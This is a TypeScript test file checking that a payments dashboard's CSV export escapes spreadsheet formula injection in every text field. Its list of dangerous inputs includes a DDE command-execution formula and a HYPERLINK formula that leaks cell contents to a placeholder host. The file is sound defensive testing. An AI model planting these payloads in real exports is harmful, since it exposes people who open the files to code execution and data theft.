/** The payments' CSV is read back by a reader that is not ours, Python's csv module: nothing lost, nothing that runs. */
import { execFileSync } from 'node:child_process';
import { API_BASE } from '@dasbor/contract/route';
import { getTransaction } from '@dasbor/contract/transaction';
import pg from 'pg';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type TestApp, type TestClient, startTestApp } from '../../test/test-app.ts';
import { newId } from '../db/new-id.ts';
import { KOPI_NUSANTARA } from '../sandbox/people.ts';

/** Every field into which others than we write, the payer and the banks included. */
const TEXT_FIELDS = [
  'merchant_reference',
  'customer_name',
  'customer_email',
  'customer_phone',
  'channel_code',
  'va_number',
  'description',
  'issuer',
  'payer_name',
  'approval_code',
  'rrn',
  'provider_reference',
  'failure_code',
  'failure_message',
] as const;

const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("https://example.test/?"&A1,"Open, please")',
  "=cmd|'/C calc'!A0",
  '+62812345678',
  '-5+3',
  '@SUM(A1:A9)',
  '\tafter a tab',
  '\rafter a return',
  '\nafter a line',
  '\r\n=1+1',
  // One more apostrophe, so that taking one away is the text again.
  "'=1+1",
];
const HARMLESS = [
  'plain',
  'a,b,,c',
  'say "yes"',
  '"',
  '""",""',
  'one line\nand another',
  'one line\r\nand another',
  'a lone\rreturn',
  "O'Neil",
  ' =1+1',
  'a;b\tc|d',
  '\\N',
  '\\.',
  'Kopi ☕ é 日本',
  ',',
];
const TEXTS = [...DANGEROUS, ...HARMLESS];
const START = Date.parse('2026-11-17T03:00:00.000Z');

let t: TestApp;
let owner: pg.Client;
let kopi: TestClient;

beforeAll(async () => {
  t = await startTestApp();
  owner = new pg.Client({ connectionString: t.database.owner_url });
  await owner.connect();
  kopi = await t.signIn('superadmin@kopi.example');
  for (const [place, text] of TEXTS.entries()) await insertPayment(place, text);
});
afterAll(async () => {
  await owner?.end();
  await t?.close();
});

/** A payment with the text in every field, as if no earlier check had been there. */
async function insertPayment(place: number, text: string): Promise<void> {
  const at = new Date(START + place * 60_000);
  await owner.query(
    `insert into app.transaction (merchant_id, id, created_at, updated_at, method, amount, net_amount, status, source,
       provider, metadata, last_event_seq, ${TEXT_FIELDS.join(', ')})
     values ($1, $2, $3, $3, 'qris', 10000, 10000, 'failed', 'api', 'bank', $4, 1, ${TEXT_FIELDS.map(() => '$5').join(', ')})`,
    [KOPI_NUSANTARA.merchant_id, newId('transaction', at), at, { [text]: text }, text],
  );
}

const READER = `import csv, io, json, sys
rows = csv.DictReader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8", newline=""), strict=True)
json.dump(list(rows), sys.stdout)`;

async function readCsv(query: Record<string, string>): Promise<Record<string, string>[]> {
  const answer = await t.app.inject({
    method: 'GET',
    url: `${API_BASE}/transactions`,
    query,
    headers: { accept: 'text/csv', authorization: kopi.authorization ?? '' },
  });
  expect(answer.statusCode).toBe(200);
  const read = execFileSync('/usr/bin/python3', ['-c', READER], { input: answer.rawPayload, encoding: 'utf8' });
  return JSON.parse(read) as Record<string, string>[];
}

test('domain 1.5: any text in any field is read back exactly, with an apostrophe before what would run', async () => {
  const rows = await readCsv({ sort: 'created_at' });
  expect(rows).toHaveLength(TEXTS.length);
  for (const [place, text] of TEXTS.entries()) {
    const row = rows[place] ?? {};
    const cell = DANGEROUS.includes(text) ? `'${text}` : text;
    expect(Object.fromEntries(TEXT_FIELDS.map((field) => [field, row[field]]))).toEqual(
      Object.fromEntries(TEXT_FIELDS.map((field) => [field, cell])),
    );
    expect(JSON.parse(row.metadata ?? '')).toEqual({ [text]: text });
    // Other columns are not shifted, and the API returns the text unchanged.
    expect(row).toMatchObject({ amount: '10000', status: 'failed', currency: 'IDR' });
    const { data } = await kopi.ok(getTransaction, { params: { id: row.id ?? '' } });
    expect(data.customer_name).toBe(text);
  }
});

test('no cell of any column begins as a formula', async () => {
  const cells = (await readCsv({})).flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^[-=+@\t\r\n]/.test(cell))).toEqual([]);
});
